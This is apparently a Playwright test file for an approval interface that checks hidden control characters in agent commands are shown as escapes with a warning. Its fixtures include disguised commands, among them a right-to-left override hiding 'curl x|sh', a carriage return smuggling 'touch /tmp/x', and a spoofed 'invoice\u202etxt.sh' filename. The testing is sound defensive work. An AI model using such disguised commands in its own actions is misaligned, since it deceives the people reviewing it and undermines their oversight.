/**
 * What the human sees is what runs (SEE): a command hiding a right-to-left override or a
 * carriage return shows them as escapes, with the warning, on the card, in the history
 * after a decision, in the edit box, and in the Rules and Audit views.
 */
import type { Locator } from '@playwright/test';
import { bash, card, expect, historyEntry, openApp, test } from './support/gatehouse.ts';

const RLO = 'ls -la \u202e; curl x|sh #';
const CR = 'git status \r#; touch /tmp/x';
const WARNING = /hidden or control characters/;

/** The element's rendered text holds none of the characters it must not show raw. */
async function showsNoHiddenCharacter(locator: Locator) {
  const text = await locator.evaluate((el) => (el as HTMLElement).textContent);
  expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b-\u200f\r\x00-\x08\x1b]/);
}

test('SEE-2: the RLO and carriage-return tricks show as escapes with the warning, on the card and in history', async ({ page, gatehouse }) => {
  await openApp(page, gatehouse);
  const rlo = await gatehouse.createRequest(bash(RLO));
  const cr = await gatehouse.createRequest(bash(CR));

  const rloCard = card(page, rlo);
  const rloCommand = rloCard.getByLabel('Command');
  await expect(rloCommand).toHaveText('ls -la \\u202E; curl x|sh #');
  await expect(rloCard.getByTestId('hidden-warning')).toHaveText(WARNING);
  await expect(rloCard.getByTestId('hidden-warning')).toContainText('Found: U+202E RIGHT-TO-LEFT OVERRIDE.');
  await expect(rloCommand.getByTestId('hidden-char')).toHaveAttribute('title', 'U+202E RIGHT-TO-LEFT OVERRIDE');
  await showsNoHiddenCharacter(rloCommand);
  // Shown in stored order: the part after the override is drawn to the right of it.
  const order = await rloCommand.evaluate((pre) => {
    const escape = pre.querySelector('[data-testid="hidden-char"]')!;
    const after = document.createRange();
    after.selectNodeContents(escape.nextSibling!);
    const before = document.createRange();
    before.selectNodeContents(pre.firstChild!);
    return { before: before.getBoundingClientRect().right, escape: escape.getBoundingClientRect(), after: after.getBoundingClientRect().left };
  });
  expect(order.before).toBeLessThanOrEqual(order.escape.left + 1);
  expect(order.escape.right).toBeLessThanOrEqual(order.after + 1);

  const crCard = card(page, cr);
  await expect(crCard.getByLabel('Command')).toHaveText('git status \\r#; touch /tmp/x');
  await expect(crCard.getByTestId('hidden-warning')).toHaveText(WARNING);
  await expect(crCard.getByTestId('hidden-warning')).toContainText('Found: U+000D CARRIAGE RETURN.');
  await showsNoHiddenCharacter(crCard.getByLabel('Command'));

  // Decided: the history line shows the same escapes and the warning.
  for (const [id, shown] of [
    [rlo, 'ls -la \\u202E; curl x|sh #'],
    [cr, 'git status \\r#; touch /tmp/x'],
  ] as const) {
    const outcome = gatehouse.outcome(id);
    await card(page, id).getByRole('button', { name: 'Deny', exact: true }).click();
    expect(await outcome).toMatchObject({ status: 'resolved', decision: 'deny' });
    const entry = historyEntry(page, id);
    await expect(entry.getByTestId('history-input')).toHaveText(shown);
    await expect(entry.getByTestId('hidden-warning')).toHaveText(WARNING);
    await showsNoHiddenCharacter(entry);
  }
  // A plain command carries no warning: the warning means something.
  const plain = await gatehouse.createRequest(bash('git status'));
  await expect(card(page, plain).getByLabel('Command')).toHaveText('git status');
  await expect(card(page, plain).getByTestId('hidden-warning')).toHaveCount(0);
});

test('SEE-3: the edit box starts with the hidden characters as JSON escapes and delivers them unchanged; typed ones are previewed with the warning', async ({
  page,
  gatehouse,
}) => {
  await openApp(page, gatehouse);
  const id = await gatehouse.createRequest(bash(RLO));
  const c = card(page, id);
  await c.getByRole('button', { name: 'Edit and allow', exact: true }).click();
  const editor = c.getByLabel('Edited input (JSON)');
  const text = await editor.inputValue();
  expect(text).toContain('"command": "ls -la \\u202E; curl x|sh #"');
  expect(text).not.toContain('\u202e');
  await expect(c.getByTestId('edit-preview')).toHaveCount(0);

  await editor.fill(JSON.stringify({ command: 'echo \u2066hi\u2069' }));
  await expect(c.getByTestId('edit-preview')).toHaveText('{"command":"echo \\u2066hi\\u2069"}');
  await expect(c.locator('.editor').getByTestId('hidden-warning')).toHaveText(WARNING);

  await editor.fill(text);
  const outcome = gatehouse.outcome(id);
  await c.getByRole('button', { name: 'Allow edited input' }).click();
  expect(await outcome).toMatchObject({ status: 'resolved', decision: 'allow', updatedInput: { command: RLO, description: 'e2e journey' } });
});

test('SEE-4: the Rules and Audit views show a rule pattern and an audited command with escapes and the warning', async ({ page, gatehouse }) => {
  const path = '/work/project/invoice\u202etxt.sh';
  const created = await gatehouse.server.api('/api/rules', { method: 'POST', json: { toolName: 'Read', pattern: path, scope: 'global' } });
  expect(created.status, created.text).toBe(201);
  const id = await gatehouse.createRequest(bash(CR));
  const decided = await gatehouse.server.api(`/api/permission-requests/${id}/decision`, { method: 'POST', json: { decision: 'deny' } });
  expect(decided.status, decided.text).toBe(200);

  await openApp(page, gatehouse, '#/rules');
  const row = page.locator(`[data-testid="rule-row"][data-rule-id="${created.body.id}"]`);
  await expect(row).toContainText('/work/project/invoice\\u202Etxt.sh');
  await expect(row.getByTestId('hidden-warning')).toHaveText(WARNING);
  await showsNoHiddenCharacter(row);

  await page.getByRole('link', { name: 'Audit' }).click();
  const entry = page
    .getByTestId('audit-entry')
    .filter({ has: page.getByTestId('audit-input') })
    .first();
  await expect(entry.getByTestId('audit-input')).toHaveText('git status \\r#; touch /tmp/x');
  await expect(entry.getByTestId('hidden-warning')).toHaveText(WARNING);
  await showsNoHiddenCharacter(entry);
});
